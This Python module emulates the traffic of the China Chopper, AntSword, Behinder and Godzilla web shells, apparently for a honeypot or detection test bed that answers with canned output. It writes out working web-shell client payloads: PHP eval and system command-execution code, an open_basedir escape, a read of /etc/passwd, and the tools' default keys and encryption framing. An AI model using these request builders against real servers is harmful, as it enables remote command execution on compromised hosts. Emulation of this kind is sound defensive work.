"""Request and response shapes of the emulated web-shell families.

Built from public descriptions of each tool's traffic (no tool code used). The client side builds
requests, the server side (server.py) recognises them and frames a canned answer; nothing runs.

  chopper   China Chopper: `<pass>=@eval(base64_decode($_POST[z0]));&z0=<b64 php>&z1=..&z2=..`,
            answer framed `->|...|<-`, old MSIE 6 user agent.
  antsword  AntSword: random parameter names, arguments base64 with a 2-character junk prefix,
            `@ini_set("display_errors", "0");@set_time_limit(0);...` code, answer between two random
            hex markers, `antSword/v2.1` user agent.
  behinder  Behinder v3: pre-shared key md5("rebeyond")[:16]; PHP: base64(AES-128-CBC), JSP: base64
            line of AES-128-ECB, ASPX: raw AES-128-CBC (IV = key); answers are JSON
            {"status": b64, "msg": b64} encrypted the same way; its Accept/Accept-Language, keep-alive.
  godzilla  Godzilla: key md5("key")[:16], pass `pass`; PHP_XOR_BASE64: `pass=<b64(xor)>`, answer
            md5(pass+key)[:16] + b64 + md5(pass+key)[16:]; JAVA_AES_RAW: raw AES-128-ECB bodies both
            ways; session cookie sent back with a trailing `;`.
"""
import base64
import gzip
import hashlib
import json
import random
import re
import struct
import urllib.parse

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

import canned

# ---------------------------------------------------------------- crypto helpers


def _pad(b: bytes) -> bytes:
    n = 16 - len(b) % 16
    return b + bytes([n]) * n


def _unpad(b: bytes) -> bytes:
    if not b or b[-1] < 1 or b[-1] > 16:
        raise ValueError("bad padding")
    return b[: -b[-1]]


def aes_ecb(key: bytes, data: bytes, decrypt=False) -> bytes:
    """AES-128-ECB with PKCS#7 padding."""
    c = Cipher(algorithms.AES(key), modes.ECB())
    if decrypt:
        d = c.decryptor()
        return _unpad(d.update(data) + d.finalize())
    e = c.encryptor()
    return e.update(_pad(data)) + e.finalize()


def aes_cbc(key: bytes, iv: bytes, data: bytes, decrypt=False) -> bytes:
    """AES-128-CBC with PKCS#7 padding."""
    c = Cipher(algorithms.AES(key), modes.CBC(iv))
    if decrypt:
        d = c.decryptor()
        return _unpad(d.update(data) + d.finalize())
    e = c.encryptor()
    return e.update(_pad(data)) + e.finalize()


def b64(s) -> str:
    if isinstance(s, str):
        s = s.encode()
    return base64.b64encode(s).decode()


def unb64(s) -> bytes:
    if isinstance(s, bytes):
        s = s.decode("latin-1")
    s = s.strip()
    return base64.b64decode(s + "=" * (-len(s) % 4))


def form(pairs) -> bytes:
    """urlencode keeping the order, the way the tools send it (`@`, `(`... escaped)."""
    return "&".join(f"{k}={urllib.parse.quote(v, safe='')}" for k, v in pairs).encode()


def parse_form(body: bytes) -> dict:
    return dict(urllib.parse.parse_qsl(body.decode("latin-1"), keep_blank_values=True))


# ---------------------------------------------------------------- China Chopper

CHOPPER_UA = "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"
_CH_HEAD = '@ini_set("display_errors","0");@set_time_limit(0);@set_magic_quotes_runtime(0);echo("->|");;'
_CH_TAIL = ';echo("|<-");die();'
CHOPPER_CODE = {
    "info": '$D=dirname($_SERVER["SCRIPT_FILENAME"]);if($D=="")$D=dirname($_SERVER["PATH_TRANSLATED"]);'
    '$R="{$D}\\t";$R.="/\\t";$R.=php_uname();$R.="(".get_current_user().")";print $R;',
    "list": '$D=base64_decode($_POST["z1"]);$F=@opendir($D);if($F==NULL){echo("ERROR:// Path Not Found Or No Permission!");}'
    'else{$M=NULL;$L=NULL;while($N=@readdir($F)){$P=$D."/".$N;$T=@date("Y-m-d H:i:s",@filemtime($P));'
    '$E=substr(base_convert(@fileperms($P),10,8),-4);$R="\\t".$T."\\t".@filesize($P)."\\t".$E."\\n";'
    'if(@is_dir($P))$M.=$N."/".$R;else $L.=$N.$R;}echo $M.$L;@closedir($F);};',
    "read": '$F=base64_decode($_POST["z1"]);$P=@fopen($F,"r");echo(@fread($P,filesize($F)));@fclose($P);;',
    "exec": '$p=base64_decode($_POST["z1"]);$s=base64_decode($_POST["z2"]);$d=dirname($_SERVER["SCRIPT_FILENAME"]);'
    '$c=substr($d,0,1)=="/"?"-c \\"{$s}\\"":"/c \\"{$s}\\"";$r="{$p} {$c}";@system($r." 2>&1",$ret);'
    'print ($ret!=0)?"ret={$ret}":"";;',
}


def chopper_request(password: str, op: str, z1: str = "", z2: str = "") -> bytes:
    pairs = [(password, "@eval(base64_decode($_POST[z0]));"), ("z0", b64(_CH_HEAD + CHOPPER_CODE[op] + _CH_TAIL))]
    if op != "info":
        pairs.append(("z1", b64(z1)))
    if op == "exec":
        pairs.append(("z2", b64(z2)))
    return form(pairs)


def chopper_answer(body: bytes):
    """Server side: a canned Chopper answer, or None if the body is not Chopper-shaped."""
    f = parse_form(body)
    if "z0" not in f or not any("base64_decode($_POST[z0])" in v for v in f.values()):
        return None
    code = unb64(f["z0"]).decode("latin-1")
    arg1 = unb64(f.get("z1", "")).decode("latin-1") if f.get("z1") else ""
    if "@system(" in code:
        cmd = unb64(f.get("z2", "")).decode("latin-1")
        out = ""
        for part in cmd.split(";"):
            part = part.strip()
            if part.startswith("cd ") or not part:
                continue
            out += "[S]\n" if part == "echo [S]" else "[E]\n" if part == "echo [E]" else canned.lookup(part)
        text = out
    elif "opendir" in code:
        text = (
            "./\t2024-03-04 10:12:40\t4096\t0755\n../\t2024-01-17 08:40:02\t4096\t0755\n"
            "banner.jpg\t2024-03-01 16:02:11\t18244\t0644\nshell.php\t2024-03-04 10:07:55\t30\t0644\n"
            "report-q4.pdf\t2024-02-27 11:45:30\t9107\t0644\n"
        )
    elif "fopen" in code:
        text = canned.LINUX["cat /etc/passwd"] if arg1 == "/etc/passwd" else "ERROR:// Path Not Found\n"
    else:
        text = "/var/www/html/uploads\t/\t" + canned.LINUX["uname -a"].strip() + "(www-data)"
    return "->|" + text + "|<-"


# ---------------------------------------------------------------- AntSword

ANTSWORD_UA = "antSword/v2.1"


def _rand_name(rng):
    return "_0x" + "".join(rng.choice("0123456789abcdef") for _ in range(5))


def _junk(rng):
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(2))


def antsword_request(rng, password: str, command: str, encoder: str = "default"):
    """Returns (body, prefix, suffix); `encoder` is `default` (code in clear) or `base64`."""
    pre = "".join(rng.choice("0123456789abcdef") for _ in range(rng.choice((5, 6, 7))))
    suf = "".join(rng.choice("0123456789abcdef") for _ in range(rng.choice((5, 6, 7))))
    n1, n2 = _rand_name(rng), _rand_name(rng)
    code = (
        '@ini_set("display_errors", "0");@set_time_limit(0);$opdir=@ini_get("open_basedir");'
        'if($opdir) {$ocwd=dirname($_SERVER["SCRIPT_FILENAME"]);$oparr=preg_split("/;|:/",$opdir);'
        '@array_push($oparr,$ocwd,sys_get_temp_dir());foreach($oparr as $item) {if(!@is_writable($item)){continue;};'
        '$tmdir=$item."/.' + pre[:4] + '";@mkdir($tmdir);if(!@file_exists($tmdir)){continue;}@chdir($tmdir);'
        '@ini_set("open_basedir", "..");$cntarr=@preg_split("/\\\\\\\\|\\//",$tmdir);for($i=0;$i<sizeof($cntarr);$i++){@chdir("..");};'
        '@ini_set("open_basedir","/");@rmdir($tmdir);break;};};;function asenc($out){return $out;};'
        'function asoutput(){$output=ob_get_contents();ob_end_clean();echo "' + pre + '";echo @asenc($output);'
        'echo "' + suf + '";}ob_start();try{$p=base64_decode(substr($_POST["' + n1 + '"],2));'
        '$s=base64_decode(substr($_POST["' + n2 + '"],2));$envstr=@base64_decode(substr($_POST["' + n1[:-1] + 'e"],2));'
        '$d=dirname($_SERVER["SCRIPT_FILENAME"]);$c=substr($d,0,1)=="/"?"-c \\"{$s}\\"":"/c \\"{$s}\\"";'
        '$r="{$p} {$c}";function fe($f){$d=explode(",",@ini_get("disable_functions"));'
        'if(empty($d)){$d=array();}else{$d=array_map(\'trim\',array_map(\'strtolower\',$d));}'
        'return(function_exists($f)&&is_callable($f)&&!in_array($f,$d));};function runcmd($c){$ret=0;$o="";'
        'if(fe(\'system\')){ob_start();@system($c,$ret);$o=ob_get_contents();ob_end_clean();}'
        'elseif(fe(\'shell_exec\')){$o=@shell_exec($c);}elseif(fe(\'passthru\')){ob_start();@passthru($c,$ret);'
        '$o=ob_get_contents();ob_end_clean();}else{$o="";$ret=-1;}return array($o,$ret);};'
        '$ret=@runcmd($r." 2>&1");print ($ret[1]!=0)?"ret={$ret[1]}":"";;}catch(Exception $e){echo "ERROR://".$e->getMessage();};'
        "asoutput();die();"
    )
    wrapped = "cd \"/var/www/html/wp-content/uploads\";" + command + ";echo " + pre[:3] + ";pwd;echo " + suf[:3]
    args = [(n1, _junk(rng) + b64("/bin/sh")), (n2, _junk(rng) + b64(wrapped))]
    if encoder == "base64":
        n0 = _rand_name(rng)
        pairs = [(password, f"@eval(@base64_decode($_POST['{n0}']));"), (n0, b64(code))] + args
    else:
        pairs = [(password, code)] + args
    return form(pairs), pre, suf


def antsword_answer(body: bytes):
    f = parse_form(body)
    code = None
    for v in f.values():
        if "asoutput()" in v:
            code = v
    if code is None:
        for v in f.values():
            if "@eval(@base64_decode($_POST[" in v:
                m = re.search(r"\$_POST\['([^']+)'\]", v)
                if m and m.group(1) in f:
                    code = unb64(f[m.group(1)]).decode("latin-1")
    if code is None or "asoutput()" not in code:
        return None
    m = re.search(r'echo "([0-9a-f]+)";echo @asenc\(\$output\);echo "([0-9a-f]+)";', code)
    m2 = re.search(r'\$s=base64_decode\(substr\(\$_POST\["([^"]+)"\],2\)\)', code)
    if not m or not m2 or m2.group(1) not in f:
        return None
    pre, suf = m.group(1), m.group(2)
    cmdline = unb64(f[m2.group(1)][2:]).decode("latin-1")
    out = ""
    for part in cmdline.split(";"):
        part = part.strip()
        if not part or part.startswith("cd "):
            continue
        if part.startswith("echo "):
            out += part[5:] + "\n"
        elif part == "pwd":
            out += "/var/www/html/wp-content/uploads\n"
        else:
            out += canned.lookup(part)
    return pre + out + suf


# ---------------------------------------------------------------- Behinder v3

BEHINDER_KEY = hashlib.md5(b"rebeyond").hexdigest()[:16].encode()
BEHINDER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/84.0.4147.105 Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:51.0) Gecko/20100101 Firefox/51.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.2 Safari/605.1.15",
]
BEHINDER_HEADERS = {
    "Accept": "application/json, text/javascript, */*; q=0.01",
    "Accept-Language": "zh-CN,zh;q=0.8,zh-TW;q=0.7,zh-HK;q=0.5,en-US;q=0.3,en;q=0.2",
    "Content-Type": "application/x-www-form-urlencoded",
    "Connection": "Keep-Alive",
}


def _fake_class(lang: str, op: str, arg: str, rng) -> bytes:
    """Stand-in for the compiled payload the tool sends (Java class / .NET assembly / PHP code)."""
    if lang == "php":
        inner = (
            "@error_reporting(0);\nfunction main($content){$result=array();$result[\"status\"]=base64_encode(\"success\");"
            "$result[\"msg\"]=base64_encode($content);echo encrypt(json_encode($result));}\n"
            f"$op=\"{op}\";$arg=\"{b64(arg)}\";main($op);"
        )
        return f"assert|eval(base64_decode('{b64(inner)}'));".encode()
    head = b"\xca\xfe\xba\xbe\x00\x00\x00\x32" if lang == "jsp" else b"MZ\x90\x00\x03\x00\x00\x00\x04\x00"
    pad = bytes(rng.getrandbits(8) for _ in range(rng.randint(1800, 3200)))
    return head + f"net/rebeyond/behinder/payload/{op};arg={b64(arg)};".encode() + pad


def _op_of(plain: bytes):
    m = re.search(rb"payload/(\w+);arg=([A-Za-z0-9+/=]*);", plain)
    if m:
        return m.group(1).decode(), unb64(m.group(2)).decode("latin-1")
    m = re.search(rb"eval\(base64_decode\('([A-Za-z0-9+/=]+)'\)\)", plain)
    if m:
        inner = unb64(m.group(1))
        m2 = re.search(rb'\$op="(\w+)";\$arg="([A-Za-z0-9+/=]*)"', inner)
        if m2:
            return m2.group(1).decode(), unb64(m2.group(2)).decode("latin-1")
    return None


def behinder_encrypt(lang: str, plain: bytes) -> bytes:
    k = BEHINDER_KEY
    if lang == "php":
        return b64(aes_cbc(k, b"\0" * 16, plain)).encode()
    if lang == "jsp":
        return b64(aes_ecb(k, plain)).encode()
    return aes_cbc(k, k, plain)


def behinder_decrypt(lang: str, body: bytes) -> bytes:
    k = BEHINDER_KEY
    if lang == "php":
        return aes_cbc(k, b"\0" * 16, unb64(body), decrypt=True)
    if lang == "jsp":
        return aes_ecb(k, unb64(body), decrypt=True)
    return aes_cbc(k, k, body, decrypt=True)


def behinder_request(rng, lang: str, op: str, arg: str = "") -> bytes:
    return behinder_encrypt(lang, _fake_class(lang, op, arg, rng))


def behinder_answer(lang: str, body: bytes):
    try:
        plain = behinder_decrypt(lang, body)
    except Exception:
        return None
    got = _op_of(plain)
    if got is None:
        return None
    op, arg = got
    windows = lang == "aspx"
    if op == "Echo":
        msg = arg
    elif op == "BasicInfo":
        msg = (
            json.dumps({"osInfo": "Windows Server 2019 10.0 amd64", "currentUser": "IIS APPPOOL\\DefaultAppPool",
                        "currentPath": "c:\\inetpub\\wwwroot\\aspnet_client\\system_web\\"})
            if windows
            else json.dumps({"osInfo": "Linux 5.15.0-91-generic amd64", "currentUser": "tomcat" if lang == "jsp" else "www-data",
                             "currentPath": "/opt/tomcat/webapps/ROOT/images/" if lang == "jsp" else "/var/www/html/uploads/"})
        )
    else:
        msg = canned.lookup(arg, windows=windows)
    resp = json.dumps({"status": b64("success"), "msg": b64(msg)}).encode()
    return behinder_encrypt(lang, resp)


# ---------------------------------------------------------------- Godzilla

GODZILLA_PASS = "pass"
GODZILLA_KEY = hashlib.md5(b"key").hexdigest()[:16].encode()
GODZILLA_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:84.0) Gecko/20100101 Firefox/84.0"
GODZILLA_HEADERS = {
    "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8",
    "Accept-Language": "zh-CN,zh;q=0.8,zh-TW;q=0.7,zh-HK;q=0.5,en-US;q=0.3,en;q=0.2",
    "Content-Type": "application/x-www-form-urlencoded",
}


def _xor(data: bytes, key: bytes) -> bytes:
    return bytes(b ^ key[(i + 1) & 15] for i, b in enumerate(data))


def godzilla_params(pairs) -> bytes:
    """Godzilla's parameter blob: name, 0x02, 4-byte little-endian length, value; gzip'd."""
    out = b""
    for k, v in pairs:
        v = v.encode() if isinstance(v, str) else v
        out += k.encode() + b"\x02" + struct.pack("<I", len(v)) + v
    return gzip.compress(out, mtime=0)


def _godzilla_unparams(blob: bytes) -> dict:
    raw = gzip.decompress(blob)
    out, i = {}, 0
    while i < len(raw):
        j = raw.index(b"\x02", i)
        n = struct.unpack("<I", raw[j + 1 : j + 5])[0]
        out[raw[i:j].decode("latin-1")] = raw[j + 5 : j + 5 + n].decode("latin-1")
        i = j + 5 + n
    return out


def godzilla_payload(rng, lang: str) -> bytes:
    """Stand-in for the first request's payload (PHP source / Java class), a few tens of KB."""
    if lang == "php":
        funcs = ["getBasicsInfo", "getFile", "readFileContent", "uploadFile", "newDir", "deleteFile", "moveFile",
                 "copyFile", "execCommand", "execSql", "getEnv", "bigFileUpload", "bigFileDownload", "setFileAttr",
                 "fileRemoteDown", "includeCode", "test", "close"]
        body = ""
        for name in funcs * 6:
            body += (f"function {name}{rng.randint(0, 999)}(){{$p=get(\"p{rng.randint(0, 99)}\");"
                     f"if($p!=null){{return base64Encode(handle($p,{rng.randint(1, 9999)}));}}return \"fail\";}}\n")
        return body.encode()
    return b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(rng.getrandbits(8) for _ in range(14000))


def godzilla_request(lang: str, blob: bytes) -> bytes:
    if lang == "php":
        return form([(GODZILLA_PASS, b64(_xor(blob, GODZILLA_KEY)))])
    return aes_ecb(GODZILLA_KEY, blob)


def _godzilla_md5() -> str:
    return hashlib.md5((GODZILLA_PASS + GODZILLA_KEY.decode()).encode()).hexdigest()


def godzilla_answer(lang: str, body: bytes):
    """Returns (answer bytes, first) or None; `first` is the payload-loading request."""
    try:
        if lang == "php":
            f = parse_form(body)
            if set(f) != {GODZILLA_PASS}:
                return None
            blob = _xor(unb64(f[GODZILLA_PASS]), GODZILLA_KEY)
        else:
            blob = aes_ecb(GODZILLA_KEY, body, decrypt=True)
    except Exception:
        return None
    if not blob.startswith(b"\x1f\x8b"):
        return b"", True
    try:
        p = _godzilla_unparams(blob)
    except Exception:
        return None
    m = p.get("methodName", "")
    if m == "test":
        res = b"ok"
    elif m == "getBasicsInfo":
        res = ("FileRoot : /\nCurrentDir : /var/www/html/uploads/\nCurrentUser : www-data\nProcessArch : x64\n"
               "OsInfo : os.name: Linux os.version: 5.15.0-91-generic\nDocumentRoot : /var/www/html\n").encode()
    elif m == "execCommand":
        cmd = p.get("cmdLine", "")
        inner = re.search(r'-c "(?:cd "[^"]*";)?(.*)" 2>&1', cmd)
        res = canned.lookup(inner.group(1) if inner else cmd).encode()
    else:
        res = b"method not found"
    enc = gzip.compress(res, mtime=0)
    if lang == "php":
        h = _godzilla_md5()
        return (h[:16] + b64(_xor(enc, GODZILLA_KEY)) + h[16:]).encode(), False
    return aes_ecb(GODZILLA_KEY, enc), False


def godzilla_decode_answer(lang: str, body: bytes) -> bytes:
    if not body:
        return b""
    if lang == "php":
        return gzip.decompress(_xor(unb64(body[16:-16]), GODZILLA_KEY))
    return gzip.decompress(aes_ecb(GODZILLA_KEY, body, decrypt=True))


# ---------------------------------------------------------------- plain command shell


def cmd_answer(query: dict, windows: bool):
    """`?cmd=...` shell: the canned output, in a <pre> the way the usual one-liners print it."""
    cmd = query.get("cmd") or query.get("c")
    if cmd is None:
        return None
    return "<pre>" + canned.lookup(cmd, windows=windows) + "</pre>"


def rand_seeded(seed: int):
    return random.Random(seed)


def session_id(rng, n=26):
    return "".join(rng.choice("abcdefghijklmnopqrstuv0123456789") for _ in range(n))


if __name__ == "__main__":  # self-check of the round trips
    rng = random.Random(1)
    assert "->|www-data\n[S]\n" in chopper_answer(chopper_request("x", "exec", "/bin/sh", "cd /x;whoami;echo [S];pwd;echo [E]"))
    body, pre, suf = antsword_request(rng, "ant", "id", "base64")
    a = antsword_answer(body)
    assert a.startswith(pre) and a.endswith(suf) and "uid=33" in a, a
    for lang in ("php", "jsp", "aspx"):
        ans = behinder_answer(lang, behinder_request(rng, lang, "Cmd", "whoami"))
        msg = json.loads(behinder_decrypt(lang, ans))["msg"]
        assert unb64(msg).strip() in (b"www-data", b"iis apppool\\defaultapppool"), msg
    for lang in ("php", "jsp"):
        assert godzilla_answer(lang, godzilla_request(lang, godzilla_payload(rng, lang)))[1]
        ans, _ = godzilla_answer(lang, godzilla_request(lang, godzilla_params([("methodName", "test")])))
        assert godzilla_decode_answer(lang, ans) == b"ok"
    print("families: round trips ok")
